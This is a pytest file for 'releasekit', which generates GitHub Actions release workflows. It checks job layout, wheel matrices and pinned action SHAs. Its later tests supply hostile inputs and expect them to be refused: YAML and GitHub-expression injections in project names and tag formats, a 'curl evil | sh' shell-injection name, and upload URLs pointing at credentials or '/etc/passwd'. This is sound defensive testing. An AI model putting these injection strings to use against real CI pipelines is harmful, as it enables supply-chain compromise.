"""The release workflow releasekit writes: its job structure, real zizmor, real check-jsonschema."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from releasekit import config
from releasekit.ci import workflow
from releasekit.ci.wheelset import RUNNERS, has_extensions
from tests.helpers.gitrepo import make_repo
from tests.helpers.workflowcheck import check_structure, check_with_real_tools, parse

PURE_PYPROJECT = """\
[build-system]
requires = ["setuptools>=61"]
build-backend = "setuptools.build_meta"

[project]
name = "plain-pkg"
version = "1.2.0"
"""

SETUP_PY_EXT = """\
from setuptools import Extension, setup

setup(
    name="fastthing",
    version="0.3.0",
    ext_modules=[Extension("fastthing._speed", ["src/speed.c"])],
)
"""

COMPILED_PYPROJECT = """\
[build-system]
requires = ["setuptools>=61"]
build-backend = "setuptools.build_meta"

[tool.cibuildwheel]
build = "cp311-* cp312-*"
skip = "*-musllinux_*"
{extra}"""


AFTER_THE_BUILD = ["check", "publish-testpypi", "verify-testpypi", "publish-pypi", "verify-pypi", "github-release"]


def project(tmp_path: Path, files: dict[str, str]) -> config.Config:
    root = make_repo(tmp_path / "work", files)
    return config.load(root)


def write_workflow(cfg: config.Config) -> tuple[Path, str]:
    text = workflow.release_workflow(cfg)
    path = cfg.root / ".github" / "workflows" / "release.yml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path, text


def test_pure_python_project(tmp_path: Path) -> None:
    cfg = project(tmp_path, {"pyproject.toml": PURE_PYPROJECT, "setup.py": "from setuptools import setup\nsetup()\n"})
    assert not has_extensions(cfg.root)
    path, text = write_workflow(cfg)
    data = parse(text)
    check_structure(data, text, building="build")
    assert list(data["jobs"]) == ["build", *AFTER_THE_BUILD]
    assert data["jobs"]["publish-pypi"]["environment"]["url"] == "https://pypi.org/project/plain-pkg/"
    check_with_real_tools(path, cfg.root)


def test_compiled_project_gets_the_wheel_matrix(tmp_path: Path) -> None:
    cfg = project(
        tmp_path,
        {"pyproject.toml": COMPILED_PYPROJECT.format(extra=""), "setup.py": SETUP_PY_EXT, "src/speed.c": ""},
    )
    assert has_extensions(cfg.root)
    path, text = write_workflow(cfg)
    data = parse(text)
    check_structure(data, text, building="sdist")
    jobs = data["jobs"]
    assert list(jobs) == ["sdist", "wheels", *AFTER_THE_BUILD]
    matrix = jobs["wheels"]["strategy"]["matrix"]["include"]
    assert {(m["platform"], m["arch"]) for m in matrix} == {(r.platform, r.arch) for r in RUNNERS}
    assert {m["os"] for m in matrix} >= {"ubuntu-24.04", "ubuntu-24.04-arm", "macos-15", "windows-11-arm"}
    cibuildwheel = next(s for s in jobs["wheels"]["steps"] if s.get("uses", "").startswith("pypa/cibuildwheel@"))
    assert cibuildwheel["env"]["CIBW_ARCHS"] == "${{ matrix.arch }}"  # an env value: no shell reads it
    assert jobs["check"]["needs"] == ["sdist", "wheels"]
    for name in ("check", "publish-testpypi", "verify-testpypi", "publish-pypi", "verify-pypi", "github-release"):
        download = next(s for s in jobs[name]["steps"] if "download-artifact" in s.get("uses", ""))
        assert download["with"] == {"pattern": "dist-*", "merge-multiple": True, "path": "dist"}
    check_with_real_tools(path, cfg.root)


def test_configured_archs_narrow_the_matrix(tmp_path: Path) -> None:
    extra = '[tool.cibuildwheel.linux]\narchs = ["x86_64"]\n[tool.cibuildwheel.windows]\narchs = "AMD64"\n'
    cfg = project(tmp_path, {"pyproject.toml": COMPILED_PYPROJECT.format(extra=extra), "setup.py": SETUP_PY_EXT})
    matrix = parse(workflow.release_workflow(cfg))["jobs"]["wheels"]["strategy"]["matrix"]["include"]
    assert sorted((m["platform"], m["arch"]) for m in matrix) == [
        ("linux", "x86_64"),
        ("macos", "arm64"),
        ("macos", "x86_64"),
        ("windows", "AMD64"),
    ]


@pytest.mark.parametrize(
    "files",
    [
        {"pyproject.toml": '[build-system]\nbuild-backend = "scikit_build_core.build"\n'},
        {"pyproject.toml": '[build-system]\nbuild-backend = "mesonpy"\n'},
        {"pyproject.toml": '[build-system]\nbuild-backend = "maturin"\n'},
        {"pyproject.toml": "[project]\nname = 'x'\n", "setup.py": SETUP_PY_EXT},
    ],
)
def test_compiled_projects_are_recognised(tmp_path: Path, files: dict[str, str]) -> None:
    root = make_repo(tmp_path / "work", files)
    assert has_extensions(root)


def test_every_pin_is_in_one_table() -> None:
    for action in workflow.ACTIONS.values():
        assert re.fullmatch(r"[0-9a-f]{40}", action.sha)
        assert re.fullmatch(r"v\d+\.\d+\.\d+", action.version)
    assert {a.name for a in workflow.ACTIONS.values()} == {
        "actions/checkout",
        "actions/setup-python",
        "actions/upload-artifact",
        "actions/download-artifact",
        "pypa/gh-action-pypi-publish",
        "pypa/cibuildwheel",
    }


HOSTILE_NAMES = [
    "minipkg\n    container: ghcr.io/evil/img #",
    "minipkg-${{ github.event.head_commit.message }}",
    "mini pkg",
    "minipkg'; curl evil | sh; '",
    "-minipkg",
    "",
]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_hostile_project_name_is_refused_in_one_line(tmp_path: Path, name: str) -> None:
    import tomlkit

    from releasekit.errors import ReleasekitError

    text = tomlkit.dumps({"project": {"name": name, "version": "1.0.0"}})
    cfg = project(tmp_path, {"pyproject.toml": text})
    with pytest.raises(ReleasekitError) as refused:
        workflow.release_workflow(cfg)
    assert "[project] name" in str(refused.value) and "\n" not in str(refused.value)


@pytest.mark.parametrize(
    ("name", "normalised"), [("Mini_Pkg.Two", "mini-pkg-two"), ("X", "x"), ("on", "on"), ("a--_.b", "a-b")]
)
def test_a_name_is_written_normalised_and_stays_a_value(tmp_path: Path, name: str, normalised: str) -> None:
    cfg = project(tmp_path, {"pyproject.toml": f'[project]\nname = "{name}"\nversion = "1.0.0"\n'})
    path, text = write_workflow(cfg)
    data = parse(text)
    assert data["jobs"]["publish-pypi"]["environment"]["url"] == f"https://pypi.org/project/{normalised}/"
    check_with_real_tools(path, cfg.root)


@pytest.mark.parametrize(
    ("table", "url"),
    [
        ("index", "https://upload.example/legacy/\n    container: evil"),
        ("index", "https://user:pw@upload.example/legacy/"),
        ("test_index", "http://upload.example/legacy/"),
        ("test_index", "https://upload.example/${{ github.token }}/"),
        ("test_index", "file:///etc/passwd"),
    ],
)
def test_an_index_url_that_is_not_a_plain_https_url_is_refused(tmp_path: Path, table: str, url: str) -> None:
    import tomlkit

    from releasekit.errors import ReleasekitError

    pyproject = PURE_PYPROJECT + tomlkit.dumps({"tool": {"releasekit": {table: {"upload_url": url}}}})
    with pytest.raises(ReleasekitError, match=r"upload_url must be an http|not an https URL") as refused:
        workflow.release_workflow(project(tmp_path, {"pyproject.toml": pyproject}))  # the config or the workflow
    assert "\n" not in str(refused.value)


def test_a_hostile_tag_format_is_refused(tmp_path: Path) -> None:
    from releasekit.errors import ReleasekitError

    pyproject = PURE_PYPROJECT + '[tool.releasekit]\ntag_format = "v{version}\\n  container: x"\n'
    with pytest.raises(ReleasekitError):
        workflow.release_workflow(project(tmp_path, {"pyproject.toml": pyproject}))
